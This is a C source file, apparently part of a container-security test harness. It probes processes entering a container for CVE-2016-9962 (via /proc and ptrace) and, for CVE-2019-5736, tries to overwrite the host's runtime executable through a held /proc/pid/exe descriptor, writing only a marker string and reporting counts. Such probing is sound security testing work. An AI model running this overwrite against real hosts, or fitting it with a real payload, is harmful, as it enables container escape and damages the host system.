/* Looking into processes that enter the container (CVE-2016-9962), and overwriting the program
 * that they were started from (CVE-2019-5736). */
#include "attack.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { EXE, DESCRIPTOR, DIRECTORY, MEMORY, MAPS, TRACE, KINDS };
static const char *const names[KINDS] = {"exe", "descriptor", "directory", "memory", "maps", "trace"};

/* Whether the process still executes the host's program: it is not the container's own, nor over,
 * nor a program of the container. That its program cannot be seen says the same. */
static int is_outside(int pid) {
    char path[64], link[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, link, sizeof link - 1);
    if (length < 0) return errno == EACCES || errno == EPERM;
    link[length] = 0;
    return strncmp(link, "/bin/", 5) != 0 || access(link, F_OK) != 0;
}

static int opens(int pid, const char *file, int flags) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    int fd = open(path, flags);
    if (fd < 0) return 0;
    /* Of a process that is ending there is nothing to read. Nothing is mapped at address 0. */
    char byte[16];
    ssize_t length = flags & O_PATH ? 1 : read(fd, byte, sizeof byte);
    int got = length > 0 || (length < 0 && errno == EIO);
    close(fd);
    return got;
}

static int descriptors(int pid) {
    char path[64], entry[96], link[256];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    if (!dir) return 0;
    int found = 0;
    for (struct dirent *e; (e = readdir(dir));) {
        if (e->d_name[0] == '.') continue;
        snprintf(entry, sizeof entry, "%s/%.16s", path, e->d_name);
        ssize_t length = readlink(entry, link, sizeof link - 1);
        if (length > 0) found = 1;
    }
    closedir(dir);
    return found;
}

static int directories(int pid) {
    return opens(pid, "root/.", O_PATH) || opens(pid, "cwd/.", O_PATH);
}

static int traces(int pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return 0;
    /* Stopped, it cannot change any more while it is looked at. */
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) waitpid(pid, 0, __WALL);
    int got = is_outside(pid);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return got;
}

static int attempt(int kind, int pid) {
    switch (kind) {
    case EXE: return opens(pid, "exe", O_PATH);
    case DESCRIPTOR: return descriptors(pid);
    case DIRECTORY: return directories(pid);
    case MEMORY: return opens(pid, "mem", O_RDWR);
    case MAPS: return opens(pid, "maps", O_RDONLY);
    default: return traces(pid);
    }
}

/* peek STOP: until the file STOP exists. Prints how many processes were met before they were the
 * container's own, and what could be reached of them then. */
int peek(int argc, char **argv) {
    int last = getpid(), met = 0, reached[KINDS] = {0};
    if (argc < 1) return 2;
    puts("ready");
    fflush(stdout);
    while (!stopped(argv[0])) {
        int pid = newcomer(&last);
        if (!pid) continue;
        int outside = 0;
        while (is_outside(pid)) {
            outside = 1;
            /* What is reached counts only if it was not the container's program by then. */
            for (int kind = 0; kind < KINDS; kind++)
                if (attempt(kind, pid) && (kind == TRACE || is_outside(pid))) reached[kind]++;
        }
        met += outside;
    }
    printf("met %d\n", met);
    for (int kind = 0; kind < KINDS; kind++) printf("%s %d\n", names[kind], reached[kind]);
    return 0;
}

/* overwrite STOP: keeps the program of every newcomer open as a path, and writes to it as soon as
 * nobody executes it. */
int overwrite(int argc, char **argv) {
    enum { TRIES = 2000 };
    int last = getpid(), met = 0, written = 0, read_only = 0;
    if (argc < 1) return 2;
    puts("ready");
    fflush(stdout);
    while (!stopped(argv[0])) {
        int pid = newcomer(&last);
        if (!pid) continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int held = open(path, O_PATH);
        if (held < 0 || !is_outside(pid)) {
            if (held >= 0) close(held);
            continue;
        }
        met++;
        snprintf(path, sizeof path, "/proc/self/fd/%d", held);
        for (int i = 0; i < TRIES; i++) {
            int fd = open(path, O_WRONLY);
            if (fd >= 0) {
                written += write(fd, "overwritten", 11) == 11;
                close(fd);
                break;
            }
            if (errno == EROFS) {
                read_only++;
                break;
            }
            usleep(1000);
        }
        close(held);
    }
    printf("met %d\nwritten %d\nread-only %d\n", met, written, read_only);
    return 0;
}
